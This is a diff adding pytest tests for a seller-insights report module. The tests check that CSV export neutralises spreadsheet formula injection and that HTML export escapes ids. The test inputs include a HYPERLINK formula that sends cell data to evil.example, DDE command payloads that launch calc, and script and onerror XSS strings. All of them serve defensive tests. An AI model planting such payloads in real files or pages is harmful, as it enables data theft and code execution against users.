@@ -1,0 +1,115 @@
+"""The insights report renderers: CSV cells are neutralised against spreadsheet formula
+injection, HTML escapes whatever it shows."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from typing import Any
+
+import pytest
+
+from csinsights.domain.documents import render_document
+from csinsights.domain.metrics import METRICS, Counts
+from csinsights.reports import FORMULA_PREFIXES, neutralise, to_csv, to_html
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1",
+        FORMULA,
+        "+SUM(A1:A2)",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=cmd",
+        "\r=cmd",
+        "=",
+    ],
+)
+def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(cell: str) -> None:
+    assert neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["", "A1SELLER", "US", "shipping", "1+1", "a=b", "less_than", "2026-11-20T00:00:00Z", " x"],
+)
+def test_other_text_is_unchanged(cell: str) -> None:
+    assert neutralise(cell) == cell
+
+
+@pytest.mark.parametrize("number", [0, 3, -5, 12.5, -0.25, None, True])
+def test_numbers_and_non_text_are_unchanged(number: Any) -> None:
+    assert neutralise(number) is number
+
+
+def document(seller: str = "A1SELLER", stores: tuple[str, ...] = ("CA", "US")) -> dict[str, Any]:
+    counts = {
+        store: Counts(orders=4, contacts=2, preventable=1, responses=2, dissatisfied=1)
+        for store in stores
+    }
+    return render_document(seller, date(2026, 11, 19), 28, counts, {})
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_has_a_header_and_a_row_per_scope_and_metric() -> None:
+    rows = csv_rows(to_csv(document()))
+    header, body = rows[0], rows[1:]
+    assert header[:5] == ["seller_id", "as_of", "window_days", "store", "metric"]
+    assert len(body) == 3 * len(METRICS)
+    assert [(r[3], r[4]) for r in body] == [
+        (scope, metric) for scope in ("all", "CA", "US") for metric in METRICS
+    ]
+
+
+def test_csv_neutralises_every_cell_that_could_be_a_formula() -> None:
+    """Seller and store ids cannot start with these characters by contract; a document
+    that nonetheless carries such text anywhere (a store id, a reason) is still safe."""
+    doc = document()
+    doc["by_store"][0]["store_id"] = "=cmd|' /C calc'!A0"
+    doc["by_store"][1]["store_id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    doc["metrics"]["preventable_contact_rate"]["reason"] = FORMULA
+    doc["by_store"][0]["metrics"]["late_contacts"]["reason"] = "+1"
+    doc["by_store"][1]["metrics"]["buyer_dissatisfaction_rate"]["reason"] = "\t-1"
+
+    text = to_csv(doc)
+    rows = csv_rows(text)
+    cells = [cell for row in rows for cell in row]
+    dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
+    assert dangerous == []
+    assert "'=cmd|' /C calc'!A0" in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "'" + FORMULA in cells
+    assert "'+1" in cells
+    assert "'\t-1" in cells
+
+
+def test_csv_keeps_numbers_as_numbers() -> None:
+    rows = list(csv.DictReader(io.StringIO(to_csv(document()))))
+    row = next(r for r in rows if r["store"] == "all" and r["metric"] == "preventable_contact_rate")
+    assert (row["value"], row["numerator"], row["denominator"]) == ("25.0", "2", "8")
+    assert row["reason"] == ""  # None is an empty cell, not "None"
+
+
+def test_html_escapes_seller_and_store_ids() -> None:
+    seller = "<script>alert('seller')</script>"
+    store = '<img src=x onerror="alert(1)">'
+    doc = document(seller=seller, stores=(store, "US"))
+    page = to_html(doc)
+    assert "<script>" not in page
+    assert "<img" not in page
+    assert "&lt;script&gt;alert(&#x27;seller&#x27;)&lt;/script&gt;" in page
+    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
+
+
+def test_html_shows_a_status_badge_per_judged_figure() -> None:
+    page = to_html(document())
+    assert "A1SELLER" in page
+    assert "title='good'" in page or "title='fair'" in page or "title='poor'" in page
